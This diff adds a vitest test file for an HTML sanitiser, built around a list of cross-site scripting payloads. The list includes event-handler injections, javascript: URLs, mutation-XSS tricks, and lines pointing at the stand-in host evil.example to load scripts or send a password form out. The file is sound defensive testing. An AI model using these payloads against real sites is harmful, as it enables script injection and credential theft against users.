@@ -1,0 +1,100 @@
+import type { Nodes } from "hast";
+import { fromHtml } from "hast-util-from-html";
+import { describe, expect, it } from "vitest";
+import { testScope } from "../testing/platform.ts";
+import { sanitiseHtml } from "./sanitise.ts";
+
+const scope = testScope({ platform: { sandboxOrigin: "http://localhost:8789" } });
+const clean = (html: string) => sanitiseHtml(html, scope);
+
+/** What a browser would make of it: every element with its properties. */
+function elements(html: string) {
+  const found: { tag: string; properties: Record<string, unknown> }[] = [];
+  const walk = (node: Nodes) => {
+    if (node.type === "element") found.push({ tag: node.tagName, properties: node.properties });
+    if ("children" in node) node.children.forEach(walk);
+  };
+  walk(fromHtml(html, { fragment: true }));
+  return found;
+}
+
+const harmlessTags =
+  /^(p|br|hr|div|span|blockquote|pre|code|su[bp]|small|b|strong|i|em|u|s|del|ins|mark|h[2-6]|[uo]l|li|d[ldt]|table|caption|t(head|body|foot|r|h|d)|a|img)$/;
+
+const payloads = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<img src=x onerror=alert(1)>",
+  "<img src='https://cdn.example/a.png' onload=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  "<a href='javascript:alert(1)'>x</a>",
+  "<a href='JaVaScRiPt:alert(1)'>x</a>",
+  "<a href='java\nscript:alert(1)'>x</a>",
+  "<a href='&#106;avascript:alert(1)'>x</a>",
+  "<a href='\u0001javascript:alert(1)'>x</a>",
+  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+  "<a href='//evil.example'>x</a>",
+  "<a href='/\\evil.example'>x</a>",
+  "<a href='vbscript:msgbox(1)'>x</a>",
+  "<iframe src='javascript:alert(1)'></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<object data='data:text/html,x'></object><embed src=x>",
+  "<form action='https://evil.example'><input name=password><button>ok</button></form>",
+  "<base href='https://evil.example/'>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+  "<link rel=stylesheet href='https://evil.example/x.css'>",
+  "<style>body{background:url(javascript:alert(1))}</style>",
+  "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
+  "<div id=config class=modal name=x>clobber</div>",
+  "<template><script>alert(1)</script></template>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<xss onfocus=alert(1) tabindex=1 autofocus>",
+  "<details open ontoggle=alert(1)>x</details>",
+  "<video><source onerror=alert(1)></video>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<p>unclosed <b><a href='https://ok.example' onclick=alert(1)>",
+];
+
+describe("sanitiseHtml", () => {
+  it.each(payloads)("leaves nothing that acts in %s", (payload) => {
+    for (const { tag, properties } of elements(clean(payload))) {
+      expect(tag).toMatch(harmlessTags);
+      for (const [name, value] of Object.entries(properties)) {
+        expect(name).toMatch(
+          /^(href|src|alt|title|rel|target|loading|width|height|start|colSpan|rowSpan|scope|lang|dir)$/,
+        );
+        if (name === "href" || name === "src") {
+          expect(String(value)).toMatch(/^(https:\/\/|mailto:|tel:|\/(?![/\\]))/);
+        }
+      }
+    }
+  });
+
+  it("keeps what text needs", () => {
+    const html =
+      "<h2>Rules</h2><ul><li><b>One</b></li></ul><table><tbody><tr><td>2</td></tr></tbody></table>";
+    expect(clean(html)).toBe(html);
+  });
+
+  it("opens foreign links apart, keeps own paths and contacts", () => {
+    expect(clean('<a href="https://ok.example/x">a</a>')).toBe(
+      '<a href="https://ok.example/x" rel="noopener noreferrer nofollow" target="_blank">a</a>',
+    );
+    expect(clean('<a href="/help#faq">a</a>')).toBe('<a href="/help#faq">a</a>');
+    expect(clean('<a href="mailto:a@b.example">a</a>')).toBe('<a href="mailto:a@b.example">a</a>');
+  });
+
+  it("A70 joins pictures to the image host and drops those it can't place", () => {
+    expect(clean('<img src="/media/a.svg" alt="A">')).toContain(
+      'src="http://localhost:8789/media/a.svg"',
+    );
+    expect(clean('<img src="http://elsewhere.example/a.svg">')).toBe("");
+  });
+
+  it("stays the same when cleaned twice", () => {
+    for (const payload of payloads) expect(clean(clean(payload))).toBe(clean(payload));
+  });
+});
